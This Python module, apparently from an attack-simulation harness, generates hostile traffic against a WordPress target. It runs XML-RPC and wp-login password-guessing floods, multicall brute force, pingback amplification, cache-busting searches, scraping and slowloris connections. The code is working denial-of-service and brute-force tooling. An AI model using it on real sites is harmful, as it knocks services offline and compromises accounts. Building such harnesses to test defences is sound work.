"""The attacks of the plan, each from the addresses and with the agents that were drawn.

All but the slow ones are open loops: a request is sent when it is due, whether or not the last was answered, up to
`in_flight` at a time, as a botnet does that does not care.
"""

from __future__ import annotations

import asyncio
import random
from collections.abc import Callable, Iterable
from itertools import count

from draws import browser, words
from wire import Link, ask_once
from world import Phase, World

Request = tuple[str, str, str, dict[str, str], bytes | None]  # address, method, target, headers, body


async def barrage(world: World, phase: Phase, request: Callable[[int], Request]) -> None:
    """Send what `request` makes of each number, when it is due, at most `in_flight` at once."""
    flying = 0

    async def one(number: int) -> None:
        nonlocal flying
        flying += 1
        address, method, target, headers, body = request(number)
        world.meet("attacker", address)
        reply = await ask_once(
            world.peer, address, method, target, headers, body,
            version=phase.get("version", "1.1"), timeout_s=float(phase.get("timeout_s", 30)),
        )  # fmt: skip
        world.count(phase["kind"], reply)
        flying -= 1

    for number, at_s in enumerate(world.arrivals(phase)):
        await world.until(at_s)
        if flying < int(phase["in_flight"]):
            world.spawn(one(number))


def headers_of(phase: Phase, address: str, content_type: str | None = None) -> dict[str, str]:
    """The attacker's headers: one agent for all, or one that belongs to the address."""
    agent = phase.get("agent") or browser(random.Random(f"{phase['seed']} {address}"))
    found = {"User-Agent": agent}
    if phase.get("referer"):
        found["Referer"] = phase["referer"]
    return {**found, "Content-Type": content_type} if content_type else found


def value(text: str) -> str:
    """A string of XML-RPC."""
    return f"<param><value><string>{text}</string></value></param>"


def call(name: str, *texts: str) -> bytes:
    """A call of XML-RPC with strings for arguments."""
    params = "".join(map(value, texts))
    head = f'<?xml version="1.0"?><methodCall><methodName>{name}</methodName>'
    return f"{head}<params>{params}</params></methodCall>".encode()


def multicall(calls: Iterable[tuple[str, tuple[str, ...]]]) -> bytes:
    """Many calls in one."""
    structs = "".join(
        f"<value><struct><member><name>methodName</name><value><string>{name}</string></value></member>"
        "<member><name>params</name><value><array><data>"
        + "".join(f"<value><string>{text}</string></value>" for text in texts)
        + "</data></array></value></member></struct></value>"
        for name, texts in calls
    )
    return (
        '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>'
        f"{structs}</data></array></value></param></params></methodCall>"
    ).encode()


async def flood(world: World, phase: Phase) -> None:
    """POST /xmlrpc.php, many from few. `body`: `login`, `multicall` or `pingback`."""
    site, where = world.site, f"{world.site.prefix}xmlrpc.php"

    def body(number: int) -> bytes:
        if phase["body"] == "login":
            return call("wp.getUsersBlogs", "admin", f"pass{number}")
        if phase["body"] == "multicall":
            return multicall(("wp.getUsersBlogs", ("admin", f"{number}x{i}")) for i in range(40))
        page = f"http://{world.peer.vhost}{world.rng.choice(site.posts)}"
        return call("pingback.extensions.getPingbacks", page)

    def request(number: int) -> Request:
        address = phase["addresses"][number % len(phase["addresses"])]
        return address, "POST", where, headers_of(phase, address, "text/xml"), body(number)

    await barrage(world, phase, request)


async def distributed(world: World, phase: Phase) -> None:
    """system.multicall of pingbacks, each from the next address: few, cheap to send, dear in time."""
    site, where, rng = world.site, f"{world.site.prefix}xmlrpc.php", world.rng

    def body() -> bytes:
        def page() -> str:
            return f"http://{world.peer.vhost}{rng.choice(site.posts)}"

        pings = (
            ("pingback.ping", (f"http://{rng.choice(phase['froms'])}/{rng.randrange(10**6)}", page())) for _ in count()
        )
        looks = (("pingback.extensions.getPingbacks", (page(),)) for _ in range(int(phase["looks"])))
        return multicall([*(next(pings) for _ in range(int(phase["pings"]))), *looks])

    def request(number: int) -> Request:
        address = phase["addresses"][number % len(phase["addresses"])]
        return address, "POST", where, headers_of(phase, address, "text/xml"), body()

    await barrage(world, phase, request)


async def login(world: World, phase: Phase) -> None:
    """Guesses at wp-login.php."""
    where = f"{world.site.prefix}wp-login.php"

    def request(number: int) -> Request:
        address = world.rng.choice(phase["addresses"])
        body = f"log={world.rng.choice(phase['users'])}&pwd=summer{number}&wp-submit=Log+In".encode()
        headers = headers_of(phase, address, "application/x-www-form-urlencoded")
        return address, "POST", where, headers, body

    await barrage(world, phase, request)


async def search(world: World, phase: Phase) -> None:
    """Searches whose words nobody's cache holds."""

    def request(_: int) -> Request:
        address = world.rng.choice(phase["addresses"])
        target = f"{world.site.prefix}?s={words(world.rng, int(phase['words']))}"
        return address, "GET", target, headers_of(phase, address), None

    await barrage(world, phase, request)


async def scrape(world: World, phase: Phase) -> None:
    """One program that fetches every page, `lanes` at a time, and says who it is."""
    site = world.site
    paths = iter([*site.categories, *world.rng.sample(site.posts, len(site.posts)), *site.posts])
    await world.until(phase["start_s"])
    if phase["robots"]:
        world.meet("attacker", phase["addresses"][0])
        await ask_once(world.peer, phase["addresses"][0], "GET", "/robots.txt", headers_of(phase, ""))

    async def lane(number: int) -> None:
        address = phase["addresses"][number % len(phase["addresses"])]
        world.meet("attacker", address)
        link = Link(world.peer, address, keep=bool(phase["keep"]))
        for path in paths:
            if world.now() > phase["end_s"]:
                break
            reply = await link.ask("GET", path, headers_of(phase, address), timeout_s=30)
            world.count("scrape", reply)
            if reply.status is None or reply.status >= 500:
                await asyncio.sleep(world.rng.uniform(1, 4))
        link.close()

    await asyncio.gather(*(lane(number) for number in range(int(phase["lanes"]))))


async def slow(world: World, phase: Phase) -> None:
    """Connections that never complete a request: a header (`headers`) or a byte of a body (`body`) now and then."""
    await world.until(phase["start_s"])
    addresses = phase["addresses"]
    await asyncio.gather(
        *(hold(world, phase, addresses[number % len(addresses)]) for number in range(int(phase["connections"])))
    )


async def hold(world: World, phase: Phase, address: str) -> None:
    """One of them; made again whenever the server ends it."""
    rng = random.Random(world.rng.random())
    await world.until(phase["start_s"] + rng.uniform(0, float(phase["ramp_s"])))
    world.meet("attacker", address)
    while world.now() < phase["end_s"]:
        link = Link(world.peer, address)
        world.sent["slow"]["begun"] += 1
        try:
            await drip(world, phase, link, rng)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            world.sent["slow"]["ended"] += 1
        finally:
            link.close()
        await asyncio.sleep(rng.uniform(0.2, 2))


async def drip(world: World, phase: Phase, link: Link, rng: random.Random) -> None:
    """Hold one connection until the server or the phase ends it."""
    async with asyncio.timeout(30):
        reader, writer = await link.open()
    post = phase["style"] == "body"
    target = world.site.prefix + phase["form"] if post else rng.choice([world.site.prefix, *world.site.posts[:40]])
    headers = headers_of(phase, link.source, "application/x-www-form-urlencoded" if post else None)
    head = link.head("POST" if post else "GET", target, headers, rng.randint(4000, 90000) if post else None)
    writer.write(head if post else head[:-2])
    ended = asyncio.ensure_future(reader.read(1))
    try:
        while world.now() < phase["end_s"]:
            await writer.drain()
            done, _ = await asyncio.wait({ended}, timeout=rng.uniform(*phase["every_s"]))
            if done:
                raise ConnectionError(ended.exception())
            writer.write(b"a" if post else f"X-{rng.choice('abcdefgh')}: {rng.randrange(10**4)}\r\n".encode())
    finally:
        ended.cancel()
